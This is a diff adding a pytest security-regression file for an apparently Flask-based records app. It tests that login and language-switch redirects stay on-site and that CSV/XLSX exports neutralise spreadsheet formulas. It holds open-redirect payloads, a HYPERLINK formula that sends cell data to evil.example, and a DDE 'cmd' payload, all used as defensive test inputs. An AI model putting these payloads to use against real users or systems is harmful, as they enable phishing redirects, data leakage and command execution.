@@ -1,0 +1,137 @@
+"""Attacks that once worked, each replayed against the product: redirects off the site, formulas in
+exports, imports through symbolic links, lockout used as a weapon, sessions and tokens that outlive
+their owner's intent, one person on both sides of four eyes, and an audit trail rewritten in the
+database."""
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+from typing import Any
+
+import pytest
+from flask import Flask
+from sqlalchemy import select
+
+from records.db import session_scope
+from records.models import Case, NomenclatureItem
+from records.spreadsheet import FORMULA_START
+from tests.conftest import PASSWORD, do_login
+from tests.integration.test_disposal_expiry import close, file_doc
+
+# --- redirects -------------------------------------------------------------------------------------
+
+OFF_SITE = ["/\t/evil.example", "//evil.example", "/\\evil.example", "https://evil.example/",
+            "/\r\n/evil.example", "\t//evil.example", "/\x0b/evil.example", "javascript:alert(1)", "/\n\n"]
+
+
+@pytest.mark.parametrize("target", OFF_SITE)
+def test_language_switch_never_leaves_the_site(client: Any, target: str) -> None:
+    resp = client.get("/lang/ru", query_string={"next": target})
+    assert resp.status_code == 302
+    location = resp.headers["Location"]
+    assert location in ("/", "http://localhost/") or (location.startswith("/") and not location.startswith("//")), location
+    assert "evil" not in location
+
+
+@pytest.mark.parametrize("target", OFF_SITE)
+def test_login_never_redirects_off_the_site(app: Flask, make_user: Any, target: str) -> None:
+    user = make_user("secretary")
+    client = app.test_client()
+    resp = client.post("/login", query_string={"next": target}, data={"username": user.username, "password": PASSWORD})
+    assert resp.status_code == 302, resp.get_data(as_text=True)[:300]
+    assert "evil" not in resp.headers["Location"]
+    assert not resp.headers["Location"].startswith("//")
+
+
+def test_a_path_of_the_app_is_kept_without_its_control_characters(app: Flask, make_user: Any) -> None:
+    user = make_user("secretary")
+    client = app.test_client()
+    resp = client.post("/login", query_string={"next": "/search?q=\nкелишим"},
+                       data={"username": user.username, "password": PASSWORD})
+    assert resp.status_code == 302 and resp.headers["Location"].endswith("/search?q=%D0%BA%D0%B5%D0%BB%D0%B8%D1%88%D0%B8%D0%BC")
+
+
+# --- formulas in exports ---------------------------------------------------------------------------
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+HOSTILE_NOTE = "+cmd|' /c calc'!a0"  # lower case: it also serves as a user name
+
+
+def _check_csv(body: str) -> int:
+    """Every cell of a CSV export is inert; returns how many cells carried the hostile text."""
+    carried = 0
+    for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))):
+        for value in row:
+            assert not value.startswith(FORMULA_START), value
+            carried += HOSTILE in value or HOSTILE_NOTE in value
+    return carried
+
+
+def _check_xlsx(data: bytes) -> int:
+    from openpyxl import load_workbook
+
+    carried = 0
+    for sheet in load_workbook(io.BytesIO(data)).worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", cell.value
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(FORMULA_START), cell.value
+                    carried += HOSTILE in cell.value or HOSTILE_NOTE in cell.value
+    return carried
+
+
+def test_every_export_neutralises_formulas(app: Flask, tmp_path: Path, login_as: Any, api_token: Any) -> None:
+    officer = login_as("archivist")
+    auditor = login_as("auditor", "admin")
+    _doc, permanent = file_doc(app, tmp_path, 2023, "12-4-7", HOSTILE)
+    file_doc(app, tmp_path, 2023, "12-4-17", HOSTILE)
+    with app.app_context(), session_scope(app) as session:
+        for item in session.scalars(select(NomenclatureItem)):
+            item.title_ky = item.title_ru = item.title_en = HOSTILE
+            item.note = HOSTILE_NOTE
+    close(app, 2023)
+    assert officer.post(f"/disposal/cases/{permanent}/keeping", data={"is_paper": "1", "sheets": "4"}).status_code == 302
+    assert officer.post("/disposal/inventories", data={"number": "1", "year": "2025",
+                                                       "case_id": [str(permanent)]}).status_code == 302
+    with app.app_context(), session_scope(app) as session:
+        inventory = session.get(Case, permanent).inventory_id
+    # A hostile user name reaches the audit trail through a failed sign-in.
+    assert do_login(app.test_client(), HOSTILE_NOTE, "wrong-password-1").status_code == 401
+
+    exports = {
+        "nomenclature csv": ("csv", officer.get("/nomenclature/2023.csv")),
+        "nomenclature xlsx": ("xlsx", officer.get("/nomenclature/2023.xlsx")),
+        "expiry csv": ("csv", officer.get("/disposal/expiry/2029.csv?lang=ru")),
+        "expiry xlsx": ("xlsx", officer.get("/disposal/expiry/2029.xlsx?lang=ky")),
+        "inventory xlsx": ("xlsx", officer.get(f"/disposal/inventories/{inventory}.xlsx?lang=ru")),
+        "api csv": ("csv", app.test_client().get("/api/v1/reports/expiry?year=2029&format=csv",
+                                                 headers={"Authorization": f"Bearer {api_token('auditor')}"})),
+        "audit csv": ("csv", auditor.get("/audit/export.csv")),
+    }
+    for name, (kind, resp) in exports.items():
+        assert resp.status_code == 200, name
+        carried = _check_csv(resp.get_data(as_text=True)) if kind == "csv" else _check_xlsx(resp.get_data())
+        assert carried, f"{name}: the hostile text should be there, inert"
+    # The commands write through the same functions.
+    runner = app.test_cli_runner()
+    out = tmp_path / "n.xlsx"
+    assert runner.invoke(args=["nomenclature", "export", "--year", "2023", "--format", "xlsx", str(out)]).exit_code == 0
+    assert _check_xlsx(out.read_bytes())
+    listed = runner.invoke(args=["cases", "expiry", "2029", "--format", "csv"])
+    assert listed.exit_code == 0 and _check_csv(listed.output)
+    exported = runner.invoke(args=["audit", "export"])
+    assert exported.exit_code == 0 and _check_csv(exported.output)
+
+
+def test_an_exported_nomenclature_imports_back_unchanged(app: Flask, login_as: Any) -> None:
+    from records import nomenclature
+
+    with app.app_context(), session_scope(app) as session:
+        nom = nomenclature.ensure_shipped(session, 2023)
+        nom.items[0].title_ru = HOSTILE
+        exported = nomenclature.export_csv(nom)
+    assert "'" + HOSTILE.replace('"', '""') in exported
+    rows = nomenclature.read_csv(exported)
+    assert rows[0].title_ru == HOSTILE
